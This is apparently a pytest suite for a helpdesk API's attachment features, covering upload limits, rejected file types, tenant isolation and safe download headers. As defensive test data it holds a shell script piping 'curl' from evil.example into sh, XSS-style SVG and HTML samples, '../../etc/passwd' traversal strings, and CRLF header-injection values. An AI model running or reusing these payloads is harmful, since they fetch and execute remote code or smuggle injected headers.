"""Attachments over the API (SPEC §4): multipart on create and reply, POST .../attachments (inline or
presigned), downloads; limits, tenancy, and the bytes that come back."""

from __future__ import annotations

import base64
import json
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import parse_qs, urlsplit

import boto3
import pytest
from urllib3 import encode_multipart_formdata

from helpdesk.domain.models import timestamp
from helpdesk.store import core as repository
from helpdesk.tickets.attachments import content_disposition
from tests.support import ACME_ADMIN, ACME_USER, GLOBEX_USER, SUPPORT, event, invoke
from tests.unit.attachments.support import (
    BUCKET,
    attachment_items,
    create,
    download,
    follow,
    key_of,
    multipart,
    presign,
    reply,
    run_check,
    stored_keys,
    view,
)
from tests.unit.attachments.test_content import ALLOWED, LOG, elf, pdf, pe, png, zip_of

MB = 1024 * 1024

# The rejected classes the spec names, as real bytes.
REJECTED = {
    "elf": elf(),
    "pe": pe(),
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "html": b"<!DOCTYPE html>\n<html><body><script>fetch('/v1/me')</script></body></html>",
    "zip": zip_of({"notes.txt": b"hello"}),
    "shebang script": b"#!/bin/sh\ncurl -s https://evil.example | sh\n",
}
# Names and declared types that would let a careless server through.
DISGUISES = [("notes.txt", "text/plain"), ("screenshot.png", "image/png"), ("app.log", "text/plain")]


def served_type(content_type: str) -> str:
    return "text/plain; charset=utf-8" if content_type == "text/plain" else content_type


# ---------------------------------------------------------------- allowed types, end to end


@pytest.mark.parametrize(("data", "content_type"), ALLOWED.values(), ids=ALLOWED.keys())
def test_every_allowed_type_is_stored_and_comes_back_byte_for_byte(aws, data: bytes, content_type: str) -> None:
    # Given a ticket filed with the file attached (a name and declared type that say nothing)
    ticket = create([("sample.bin", data, "application/octet-stream")])

    # Then the ticket view lists it, available, with the type its bytes have
    conversation = view(ticket["id"])
    [attachment] = conversation["attachments"]
    assert attachment["status"] == "available"
    assert attachment["content_type"] == content_type
    assert attachment["size"] == len(data)
    assert attachment["filename"] == "sample.bin"
    assert conversation["messages"][0]["attachments"] == [attachment]

    # And downloading it gives back exactly those bytes, as a download of that type
    response = download(ticket["id"], attachment["id"])
    fetched = follow(response)
    assert fetched.status_code == 200
    assert fetched.content == data
    assert fetched.headers["content-type"] == served_type(content_type)
    assert fetched.headers["content-disposition"].startswith('attachment; filename="sample.bin"')


def test_a_reply_carries_up_to_three_files_and_shows_them_on_its_message(aws) -> None:
    ticket = create()
    files = [("kubelet.log", LOG, "text/plain"), ("graph.png", png(), "image/png"), ("report.pdf", pdf(), "x/y")]

    response = reply(ticket["id"], files)

    assert response.status == 201, response
    message = response.json()
    assert [(a["filename"], a["content_type"], a["status"]) for a in message["attachments"]] == [
        ("kubelet.log", "text/plain", "available"),
        ("graph.png", "image/png", "available"),
        ("report.pdf", "application/pdf", "available"),
    ]
    conversation = view(ticket["id"])
    assert conversation["messages"][-1]["attachments"] == message["attachments"]
    assert {a["message_id"] for a in conversation["attachments"]} == {message["id"]}
    assert stored_keys() == sorted(key_of(ticket["id"], a["id"]) for a in message["attachments"])


def test_json_requests_keep_working_without_attachments(aws) -> None:
    ticket = create()
    response = invoke("reply_ticket", event("reply_ticket", path={"ticket_id": ticket["id"]}))
    assert response.status == 201
    assert response.json()["attachments"] == []
    assert view(ticket["id"])["attachments"] == []
    assert stored_keys() == []


# ---------------------------------------------------------------- rejected types


@pytest.mark.parametrize(("filename", "declared"), DISGUISES)
@pytest.mark.parametrize("data", REJECTED.values(), ids=REJECTED.keys())
def test_every_rejected_class_is_refused_whatever_its_name_or_declared_type(
    aws, data: bytes, filename: str, declared: str
) -> None:
    ticket = create()

    response = reply(ticket["id"], [("fine.txt", b"just text\n", "text/plain"), (filename, data, declared)])

    assert response.status == 415, response
    problem = response.json()
    assert response.headers["content-type"] == "application/problem+json"
    assert f"'{filename}'" in problem["detail"]
    assert "cannot be attached" in problem["detail"]
    assert "PNG, JPEG, GIF, WebP and PDF" in problem["detail"]
    # And nothing of the request was kept: no message, no record, no bytes
    assert len(view(ticket["id"])["messages"]) == 1
    assert attachment_items(ticket["id"]) == []
    assert stored_keys() == []


def test_a_rejected_file_refuses_the_whole_ticket(aws) -> None:
    payload = {"category": "bug", "body": "See the attached binary."}
    response = invoke("create_ticket", multipart("create_ticket", payload, [("tool.txt", elf(), "text/plain")]))

    assert response.status == 415
    listed = invoke("list_tickets", event("list_tickets", query={})).json()
    assert listed["items"] == []
    assert stored_keys() == []


@pytest.mark.parametrize(
    ("payload", "status"),
    [
        (None, 422),  # no payload field
        ({"category": "bug"}, 422),  # body missing
        ({"category": "bug", "body": "x", "is_admin": True}, 422),  # unknown field: no mass assignment
        ("{not json", 400),
    ],
    ids=["no payload", "invalid payload", "unknown field", "malformed payload"],
)
def test_a_bad_payload_refuses_the_request_before_anything_is_stored(aws, payload: Any, status: int) -> None:
    sample = multipart("create_ticket", None, [("a.log", LOG, "text/plain")])
    if payload is not None:
        text = payload if isinstance(payload, str) else json.dumps(payload)
        body, content_type = encode_multipart_formdata(
            [("payload", text), ("attachments", ("a.log", LOG, "text/plain"))]
        )
        sample["headers"]["content-type"] = content_type
        sample["body"] = base64.b64encode(body).decode()

    response = invoke("create_ticket", sample)

    assert response.status == status, response
    assert response.headers["content-type"] == "application/problem+json"
    assert stored_keys() == []


def test_multipart_is_refused_where_it_is_not_accepted(aws) -> None:
    ticket = create()
    sample = multipart("update_ticket", {"severity": "high"}, [], path={"ticket_id": ticket["id"]})
    assert invoke("update_ticket", sample).status == 415


# ---------------------------------------------------------------- limits


def test_four_files_on_one_message_are_422(aws) -> None:
    ticket = create()
    files = [(f"part{i}.log", LOG, "text/plain") for i in range(4)]

    response = reply(ticket["id"], files)

    assert response.status == 422
    assert "At most 3 attachments" in response.json()["detail"]
    assert stored_keys() == []


def test_a_file_of_10_mb_and_one_byte_is_413_and_points_to_the_presigned_upload(aws) -> None:
    ticket = create()
    big = b"x" * (10 * MB + 1)

    response = reply(ticket["id"], [("huge.log", big, "text/plain")])

    assert response.status == 413
    assert "/v1/tickets/{ticket_id}/attachments" in response.json()["detail"]
    assert "presigned" in response.json()["detail"]
    assert stored_keys() == []
    # And the presigned path refuses it too, before granting anything
    response = presign(ticket["id"], size=10 * MB + 1)
    assert response.status == 413
    assert attachment_items(ticket["id"]) == []


@pytest.mark.parametrize("size", [int(4.2 * MB), 5 * MB], ids=["under Lambda's 6 MB", "over it (seen locally)"])
def test_a_request_too_large_to_send_inline_is_413_before_it_is_parsed(aws, size: int) -> None:
    # Given a body over the 5.5 MB an inline request may carry (base64: 4/3 of the files' size)
    ticket = create()
    response = reply(ticket["id"], [("big.log", b"a" * size, "text/plain")])

    assert response.status == 413
    detail = response.json()["detail"]
    assert "5.5 MB" in detail
    assert "presigned upload" in detail
    assert stored_keys() == []


def test_the_4_mb_the_cli_sends_inline_are_accepted(aws) -> None:
    ticket = create()
    response = reply(ticket["id"], [("ok.log", b"a" * (4 * MB), "text/plain")])
    assert response.status == 201
    assert response.json()["attachments"][0]["size"] == 4 * MB


def test_the_21st_attachment_of_a_ticket_is_refused_atomically(aws) -> None:
    # Given a ticket with 3 files, six replies of 3 more (21 would be one too many)... up to 18
    ticket = create([(f"f{i}.log", LOG, "text/plain") for i in range(3)])
    for _ in range(5):
        assert reply(ticket["id"], [(f"r{i}.log", LOG, "text/plain") for i in range(3)]).status == 201
    # ...and two presigned uploads: 20
    assert presign(ticket["id"]).status == 201
    assert presign(ticket["id"]).status == 201
    assert len(view(ticket["id"])["attachments"]) == 20

    # When a 21st comes, inline or presigned
    inline = reply(ticket["id"], [("one-more.log", LOG, "text/plain")])
    granted = presign(ticket["id"])
    ticket_level = invoke(
        "upload_attachment",
        multipart("upload_attachment", None, [("x.log", LOG, "text/plain")], path={"ticket_id": ticket["id"]}),
    )

    # Then each is a 409 that says why, and nothing was added (nor left in the bucket)
    for response in (inline, granted, ticket_level):
        assert response.status == 409, response
        assert response.json()["title"] == "Attachment limit reached"
        assert "at most 20 attachments" in response.json()["detail"]
    conversation = view(ticket["id"])
    assert len(conversation["attachments"]) == 20
    assert len(conversation["messages"]) == 6
    assert len(stored_keys()) == 18


def test_a_reply_that_would_pass_the_limit_is_refused_whole(aws) -> None:
    ticket = create([(f"f{i}.log", LOG, "text/plain") for i in range(3)])
    for _ in range(5):
        reply(ticket["id"], [(f"r{i}.log", LOG, "text/plain") for i in range(3)])
    assert presign(ticket["id"]).status == 201  # 19

    response = reply(ticket["id"], [("a.log", LOG, "text/plain"), ("b.log", LOG, "text/plain")])

    assert response.status == 409
    assert len(view(ticket["id"])["attachments"]) == 19
    # But one more still fits
    assert reply(ticket["id"], [("a.log", LOG, "text/plain")]).status == 201


def granted_minutes_ago(ticket_id: str, attachment_id: str, minutes: int) -> None:
    """Let time pass for an upload grant: its record as it would be `minutes` after it was granted."""
    at = timestamp(datetime.now(UTC) - timedelta(minutes=minutes))
    boto3.client("dynamodb").update_item(
        TableName=repository.TABLE,
        Key=repository.attachment_key(ticket_id, attachment_id),
        UpdateExpression="SET created_at = :at",
        ExpressionAttributeValues={":at": {"S": at}},
    )


def full_ticket_with_two_grants() -> tuple[str, list[str]]:
    """A ticket with 18 inline files and 2 presigned upload grants: 20, full."""
    ticket = create([(f"f{i}.log", LOG, "text/plain") for i in range(3)])
    for _ in range(5):
        assert reply(ticket["id"], [(f"r{i}.log", LOG, "text/plain") for i in range(3)]).status == 201
    grants = [presign(ticket["id"]).json()["attachment_id"] for _ in range(2)]
    return ticket["id"], grants


def test_upload_grants_never_used_give_their_room_back_once_expired(aws) -> None:
    # Given a full ticket whose two upload grants were never used, 21 minutes ago
    ticket_id, grants = full_ticket_with_two_grants()
    for grant in grants:
        granted_minutes_ago(ticket_id, grant, 21)

    # When another file comes
    response = reply(ticket_id, [("one-more.log", LOG, "text/plain")])

    # Then it fits: the unused grants expired and gave their room back (and only theirs)
    assert response.status == 201, response
    statuses = {a["id"]: a["status"] for a in view(ticket_id)["attachments"]}
    assert [statuses[grant] for grant in grants] == ["expired", "expired"]
    assert sorted(statuses.values()).count("available") == 19
    assert presign(ticket_id).status == 201  # 20 again
    assert presign(ticket_id).status == 409
    # An expired grant is never downloadable, and bytes arriving for it late are not kept
    late = download(ticket_id, grants[0])
    assert late.status == 409
    assert "expired" in late.json()["detail"]
    boto3.client("s3").put_object(Bucket=BUCKET, Key=key_of(ticket_id, grants[0]), Body=LOG)
    run_check(key_of(ticket_id, grants[0]))
    assert key_of(ticket_id, grants[0]) not in stored_keys()
    assert {a["id"]: a["status"] for a in view(ticket_id)["attachments"]}[grants[0]] == "expired"


def test_grants_still_usable_or_used_keep_their_room(aws) -> None:
    # Given a full ticket: one grant 10 minutes old (its upload may still be on its way), and one
    # used long ago (uploaded and checked)
    ticket_id, (recent, used) = full_ticket_with_two_grants()
    granted_minutes_ago(ticket_id, recent, 10)
    boto3.client("s3").put_object(Bucket=BUCKET, Key=key_of(ticket_id, used), Body=LOG)
    run_check(key_of(ticket_id, used))
    granted_minutes_ago(ticket_id, used, 60)

    # Then the ticket stays full
    response = reply(ticket_id, [("one-more.log", LOG, "text/plain")])
    assert response.status == 409
    assert response.json()["title"] == "Attachment limit reached"
    statuses = {a["id"]: a["status"] for a in view(ticket_id)["attachments"]}
    assert (statuses[recent], statuses[used]) == ("pending_upload", "available")


def test_files_for_a_closed_ticket_are_409_and_leave_nothing(aws) -> None:
    ticket = create()
    assert invoke("close_ticket", event("close_ticket", path={"ticket_id": ticket["id"]})).status == 200

    inline = reply(ticket["id"], [("late.log", LOG, "text/plain")])
    granted = presign(ticket["id"])

    for response in (inline, granted):
        assert response.status == 409
        assert "closed" in response.json()["detail"]
    assert attachment_items(ticket["id"]) == []
    assert stored_keys() == []


# ---------------------------------------------------------------- tenancy


def test_another_orgs_ticket_takes_no_files_and_keeps_no_bytes(aws) -> None:
    ticket = create()

    inline = reply(ticket["id"], [("probe.log", LOG, "text/plain")], claims=GLOBEX_USER)
    granted = presign(ticket["id"], claims=GLOBEX_USER)

    assert inline.status == 404
    assert granted.status == 404
    assert attachment_items(ticket["id"]) == []
    assert stored_keys() == []


def test_a_download_from_another_org_is_404_and_reveals_nothing(aws) -> None:
    ticket = create([("kubelet.log", LOG, "text/plain")])
    [attachment] = view(ticket["id"])["attachments"]

    foreign = download(ticket["id"], attachment["id"], claims=GLOBEX_USER)

    assert foreign.status == 404
    assert "location" not in foreign.headers
    assert attachment["id"] not in foreign.text  # the ticket is what is not found
    # Whereas every member of the org, and support, may download it
    for claims in (ACME_USER, ACME_ADMIN, SUPPORT):
        assert follow(download(ticket["id"], attachment["id"], claims=claims)).content == LOG


def test_an_attachment_id_from_another_ticket_is_404(aws) -> None:
    mine = create([("mine.log", LOG, "text/plain")])
    theirs = create([("theirs.log", b"secret\n", "text/plain")], claims=GLOBEX_USER)
    [their_file] = view(theirs["id"], claims=GLOBEX_USER)["attachments"]

    response = download(mine["id"], their_file["id"])

    assert response.status == 404
    assert "Attachment" in response.json()["detail"]


@pytest.mark.parametrize(
    ("ticket_id", "attachment_id"),
    [("not-a-ulid", "01JDQ5B3C4D5E6F7G8H9J0K1M2"), ("01JDQ4Z9X2V7N8K3M5P6R7S8T9", "../../etc/passwd")],
)
def test_malformed_ids_are_404(aws, ticket_id: str, attachment_id: str) -> None:
    assert download(ticket_id, attachment_id).status == 404


def test_an_internal_notes_files_are_neither_listed_nor_served_to_customers(aws) -> None:
    ticket = create()
    note = reply(ticket["id"], [("dump.log", LOG, "text/plain")], claims=SUPPORT, internal=True)
    assert note.status == 201
    [attachment] = note.json()["attachments"]

    assert view(ticket["id"])["attachments"] == []
    assert download(ticket["id"], attachment["id"]).status == 404
    assert [a["id"] for a in view(ticket["id"], claims=SUPPORT)["attachments"]] == [attachment["id"]]
    assert follow(download(ticket["id"], attachment["id"], claims=SUPPORT)).content == LOG


# ---------------------------------------------------------------- downloads


def test_a_download_is_a_short_lived_presigned_get_that_forces_a_download(aws) -> None:
    ticket = create([("kubelet.log", LOG, "text/plain")])
    [attachment] = view(ticket["id"])["attachments"]

    response = download(ticket["id"], attachment["id"])

    assert response.status == 302
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["cache-control"] == "no-store"
    location = urlsplit(response.headers["location"])
    query = parse_qs(location.query)
    assert location.path.endswith(f"/{key_of(ticket['id'], attachment['id'])}")
    assert int(query["X-Amz-Expires"][0]) <= 60
    assert query["response-content-type"] == ["text/plain; charset=utf-8"]
    assert query["response-content-disposition"] == [content_disposition("kubelet.log")]


@pytest.mark.parametrize(
    ("filename", "expected"),
    [
        ("kubelet.log", "attachment; filename=\"kubelet.log\"; filename*=UTF-8''kubelet.log"),
        ('a"b\\c%.txt', "attachment; filename=\"a_b_c_.txt\"; filename*=UTF-8''a%22b%5Cc%25.txt"),
        (
            "Grüße 日本.txt",
            "attachment; filename=\"Gr__e __.txt\"; filename*=UTF-8''Gr%C3%BC%C3%9Fe%20%E6%97%A5%E6%9C%AC.txt",
        ),
        (
            "x\r\nSet-Cookie: a=b",
            "attachment; filename=\"x__Set-Cookie: a=b\"; filename*=UTF-8''x%0D%0ASet-Cookie%3A%20a%3Db",
        ),
        ("日本", "attachment; filename=\"__\"; filename*=UTF-8''%E6%97%A5%E6%9C%AC"),
    ],
)
def test_content_disposition_encodes_any_name_safely(filename: str, expected: str) -> None:
    assert content_disposition(filename) == expected


def test_the_name_a_client_sends_is_reduced_to_a_safe_base_name(aws) -> None:
    ticket = create([("C:\\Users\\me\\..\\kubelet.log", LOG, "text/plain")])
    [attachment] = view(ticket["id"])["attachments"]
    assert attachment["filename"] == "kubelet.log"
    # and through the presigned path too
    response = presign(ticket["id"], filename="../../etc/passwd")
    assert response.status == 201
    assert {a["filename"] for a in view(ticket["id"])["attachments"]} == {"kubelet.log", "passwd"}


# ---------------------------------------------------------------- POST .../attachments


def test_inline_files_attach_to_the_ticket_itself(aws) -> None:
    ticket = create()
    sample = multipart(
        "upload_attachment",
        None,
        [("trace.json", b'{"trace": [1, 2]}', "application/json"), ("shot.gif", ALLOWED["gif89a"][0], "image/gif")],
        path={"ticket_id": ticket["id"]},
    )

    response = invoke("upload_attachment", sample)

    assert response.status == 201, response
    stored = response.json()["attachments"]
    assert [(a["filename"], a["content_type"], a["status"], a["message_id"]) for a in stored] == [
        ("trace.json", "application/json", "available", None),
        ("shot.gif", "image/gif", "available", None),
    ]
    assert view(ticket["id"])["attachments"] == stored
    assert follow(download(ticket["id"], stored[1]["id"])).content == ALLOWED["gif89a"][0]


def test_inline_uploads_take_files_only(aws) -> None:
    ticket = create()
    path = {"ticket_id": ticket["id"]}
    with_payload = multipart("upload_attachment", {"filename": "a"}, [("a.log", LOG, "text/plain")], path=path)
    nothing = multipart("upload_attachment", None, [], path=path)
    rejected = multipart("upload_attachment", None, [("a.png", pe(), "image/png")], path=path)

    assert invoke("upload_attachment", with_payload).status == 422
    assert invoke("upload_attachment", nothing).status == 422
    assert invoke("upload_attachment", rejected).status == 415
    assert stored_keys() == []


def test_a_presigned_post_pins_key_type_and_size_in_its_policy(aws) -> None:
    ticket = create()
    before = datetime.now(UTC)

    response = presign(ticket["id"], filename="kubelet.log", content_type="text/plain", size=7 * MB)

    assert response.status == 201, response
    grant = response.json()
    assert set(grant) == {"attachment_id", "upload_url", "fields", "expires_at"}
    key = key_of(ticket["id"], grant["attachment_id"])
    assert response.headers["location"] == f"/v1/tickets/{ticket['id']}/attachments/{grant['attachment_id']}"
    assert grant["fields"]["key"] == key
    assert grant["fields"]["Content-Type"] == "text/plain"
    # The policy (moto does not enforce it, so it is read here) allows exactly this upload
    policy = json.loads(base64.b64decode(grant["fields"]["policy"]))
    conditions = policy["conditions"]
    assert {"bucket": "helpdesk-attachmentsbucket"} in conditions
    assert {"key": key} in conditions
    assert {"Content-Type": "text/plain"} in conditions
    assert ["content-length-range", 1, 7 * MB] in conditions
    assert not any(isinstance(c, list) and c[0] == "starts-with" for c in conditions)  # nothing left open
    expiration = datetime.fromisoformat(policy["expiration"].replace("Z", "+00:00"))
    assert 0 < (expiration - before).total_seconds() <= 300
    assert grant["expires_at"] == policy["expiration"]
    # And the ticket lists it as pending until the upload has been checked
    [attachment] = view(ticket["id"])["attachments"]
    assert attachment == {
        "id": grant["attachment_id"],
        "message_id": None,
        "filename": "kubelet.log",
        "content_type": "text/plain",
        "size": 7 * MB,
        "status": "pending_upload",
        "rejection_reason": None,
        "created_at": attachment["created_at"],
    }


@pytest.mark.parametrize(
    "change",
    [
        {"owner": "me"},
        {"size": 0},
        {"size": "12"},
        {"content_type": "text/plain\r\nx-amz-acl: public-read"},
        {"content_type": "plain"},
        {"filename": "a.txt", "size": None},
    ],
    ids=["unknown field", "empty", "size as text", "header injection", "not a media type", "null"],
)
def test_a_bad_presign_request_is_422(aws, change: dict[str, Any]) -> None:
    ticket = create()
    assert presign(ticket["id"], **change).status == 422
    assert attachment_items(ticket["id"]) == []


@pytest.mark.parametrize("filename", ["../", "..", "/", "\x01\x02"])
def test_a_file_name_with_nothing_usable_is_called_attachment(aws, filename: str) -> None:
    ticket = create()
    response = presign(ticket["id"], filename=filename)
    assert response.status == 201, response
    [item] = attachment_items(ticket["id"])
    assert item["filename"]["S"] == "attachment"


def test_a_pending_upload_is_not_downloadable_yet(aws) -> None:
    ticket = create()
    grant = presign(ticket["id"]).json()

    response = download(ticket["id"], grant["attachment_id"])

    assert response.status == 409
    assert "not downloadable yet" in response.json()["detail"]


def test_an_idempotent_retry_of_a_multipart_reply_stores_nothing_twice(aws) -> None:
    ticket = create()
    sample = multipart(
        "reply_ticket", {"body": "logs"}, [("a.log", LOG, "text/plain")], path={"ticket_id": ticket["id"]}
    )
    sample["headers"]["idempotency-key"] = "retry-1"

    first = invoke("reply_ticket", sample)
    again = invoke("reply_ticket", sample)

    assert first.status == again.status == 201
    assert again.json() == first.json()
    assert len(stored_keys()) == 1
    assert len(view(ticket["id"])["attachments"]) == 1
